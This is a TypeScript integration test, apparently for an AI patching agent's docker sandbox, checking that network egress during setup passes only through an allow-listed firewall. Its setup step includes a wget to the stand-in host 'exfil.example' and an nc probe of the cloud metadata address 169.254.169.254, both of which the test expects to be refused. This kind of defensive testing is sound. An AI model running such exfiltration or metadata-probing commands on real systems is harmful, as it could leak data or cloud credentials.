import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import type { RunningServer } from '../../src/server/start-server.ts';
import { runsAsRoot } from '../../src/adapters/sandbox/sandbox-owner.ts';
import type { RunEvent } from '../../src/protocol/run-event.ts';
import { deliver, TestOctokit, tempDir } from '../support/app-harness.ts';
import { startAppWithWorker } from '../support/app-with-worker.ts';
import { nodeBuggy, nodeFix } from '../support/fixture-repo.ts';
import { startGithubFake, type FakeGithub } from '../support/github-fake.ts';
import { makeRemoteRepo, startGitServer, type GitServer } from '../support/git-http-server.ts';
import { OWNER, payload } from '../support/payloads.ts';
import { startScriptedModel, type ScriptedModel } from '../support/scripted-model.ts';
import { startStandIn, type StandIn } from '../support/stand-in.ts';

/**
 * A whole job in the docker backend (podman, runc) whose setup uses the network: an image with no
 * Perl (busybox only), so the egress bridge runs in a host namespace the container joins. Setup
 * fetches from an allowed stand-in and is refused elsewhere; the PR says what was refused.
 */
const IMAGE = 'localhost/patchwright-egress-test:busybox';
const FIRST_UID = 61158;
const TOKEN = `ghs_${crypto.randomBytes(18).toString('hex')}`;
const podman = (...args: string[]) =>
  execFileSync('podman', ['--runtime', 'runc', ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
const canRun = runsAsRoot() && fs.existsSync('/usr/bin/podman') && fs.existsSync('/bin/busybox');

let standIn: StandIn;
let git: GitServer;
let github: FakeGithub;
let model: ScriptedModel;
let server: RunningServer;
let events: RunEvent[] = [];

beforeAll(async () => {
  if (!canRun) return;
  try {
    podman('image', 'exists', IMAGE);
  } catch {
    const ctx = tempDir('pw-egress-image-');
    fs.mkdirSync(path.join(ctx, 'rootfs', 'bin'), { recursive: true });
    fs.copyFileSync('/bin/busybox', path.join(ctx, 'rootfs', 'bin', 'busybox'));
    fs.writeFileSync(
      path.join(ctx, 'Containerfile'),
      'FROM scratch\nCOPY rootfs/ /\nRUN ["/bin/busybox", "--install", "-s", "/bin"]\n',
    );
    podman('build', '-q', '-t', IMAGE, ctx);
  }
  standIn = await startStandIn();
  const setup = [
    `wget -q -O- http://localhost:${standIn.httpPort}/__echo | grep -q __echo && echo fetched`,
    'wget -q -O- http://exfil.example/ >/dev/null 2>&1; nc -w 3 169.254.169.254 80 </dev/null; true',
  ];
  // busybox has no node: the test is a script's grep that passes once add adds (a test command that names the
  // source file itself would be one the verdict refuses: the change would edit what the test command runs).
  const config = YAML.stringify({ setup, test: 'sh test/adds.sh' });
  const root = tempDir('pw-docker-egress-job-');
  makeRemoteRepo(root, 'boxed', {
    ...nodeBuggy,
    'test/adds.sh': 'grep -q \'a + b\' "$(dirname "$0")/../math.js"\n',
    '.github/agent.yml': config,
  });
  git = await startGitServer(root, TOKEN);
  github = await startGithubFake({ token: TOKEN, files: { '.github/agent.yml': config } });
  model = await startScriptedModel(
    [{ calls: [{ name: 'apply_patch', arguments: { input: nodeFix } }] }, { text: 'Fixed add.' }],
    { titles: () => 'Make add return the sum' },
  );
  server = await startAppWithWorker(github.url, model.baseURL, TestOctokit, undefined, {
    env: {
      PATCHWRIGHT_SANDBOX: 'docker',
      PATCHWRIGHT_DOCKER_CLI: 'podman',
      PATCHWRIGHT_DOCKER_RUNTIME: 'runc',
      PATCHWRIGHT_SANDBOX_IMAGE: IMAGE,
      PATCHWRIGHT_SANDBOX_UID: String(FIRST_UID),
      PATCHWRIGHT_EGRESS_ALLOW: `npm,localhost:${standIn.httpPort}`,
    },
  });
  const issue = payload('issues', 'labeled', {
    label: { name: 'agent' },
    issue: { number: 6, title: 'Fix add', body: 'add(2, 3) returns -1', pull_request: undefined },
    repository: { name: 'boxed', full_name: `${OWNER}/boxed`, clone_url: `${git.url}/boxed.git` },
  });
  expect((await deliver(server.url, 'issues', issue)).status).toBe(200);
  await server.pool.idle();
  const [job] = server.jobs.list();
  const rows = server.db.prepare('SELECT data FROM run_events WHERE job_id = ? ORDER BY seq').all(job!.id) as Array<{
    data: string;
  }>;
  events = rows.map((r) => JSON.parse(r.data) as RunEvent);
}, 300_000);

afterAll(async () => {
  await server?.close();
  await Promise.all([git?.close(), github?.close(), model?.close(), standIn?.close()]);
});

describe.runIf(canRun)('a job in the docker backend whose setup uses the network', () => {
  it('setup gets out only through the firewall, and the PR lists what it refused', () => {
    const done = events.find((e) => e.type === 'run.completed') as
      | Extract<RunEvent, { type: 'run.completed' }>
      | undefined;
    expect(done?.outcome, done?.summary).toBe('succeeded');
    const outputs = events.flatMap((e) =>
      e.type === 'item.completed' && e.item.kind === 'command_execution' ? [e.item.output] : [],
    );
    expect(outputs[0]).toBe('fetched');
    expect(done!.evidence.egressRefused?.map((r) => `${r.host}:${r.port} ${r.phase}`)).toEqual([
      'exfil.example:80 setup',
    ]);
    // Setup ran twice (the run's own, and the clean checkout's for the verdict): how often is said.
    expect(github.pulls[0]!.body).toMatch(/^- `exfil\.example:80` during setup(, \d+ times)?: not on the allow-list$/m);
    expect(podman('ps', '--all', '--filter', `ancestor=${IMAGE}`, '--format', '{{.Names}}').trim()).toBe('');
  });
});
